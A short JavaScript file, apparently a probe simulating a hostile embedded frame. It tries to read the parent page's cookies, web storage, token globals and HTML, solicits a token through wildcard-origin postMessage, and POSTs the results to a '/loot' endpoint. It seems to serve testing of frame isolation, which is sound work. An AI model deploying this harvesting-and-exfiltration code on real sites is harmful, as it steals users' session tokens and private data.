// A frame of another site inside the app's page: an advertisement, a widget, a map.
(async () => {
  const here = new URL(document.currentScript.src).search;
  const got = [];
  const attempts = {
    'the page\'s cookies': () => parent.document.cookie,
    'the page\'s localStorage': () => JSON.stringify(parent.localStorage),
    'the page\'s sessionStorage': () => JSON.stringify(parent.sessionStorage),
    'a global of the page': () => parent.token ?? parent.refresh_token,
    'the page\'s text': () => parent.document.documentElement.outerHTML,
    'the page\'s address': () => document.referrer,
  };
  for (const [what, attempt] of Object.entries(attempts)) {
    try {
      got.push({ what, value: String(attempt() ?? '') });
    } catch (error) {
      got.push({ what, refused: error.name });
    }
  }
  const told = new Promise((done) => {
    window.addEventListener('message', ({ data }) => data?.token && done(data.token));
    setTimeout(() => done(null), 700);
  });
  const ask = () => parent.postMessage({ want: 'token' }, '*');
  // The page's own scripts may not have started yet.
  ask();
  const asking = setInterval(ask, 100);
  got.push({ what: 'an answer to postMessage', value: (await told) ?? '' });
  clearInterval(asking);
  await fetch(`/loot${here}`, { method: 'POST', body: JSON.stringify(got) });
})();
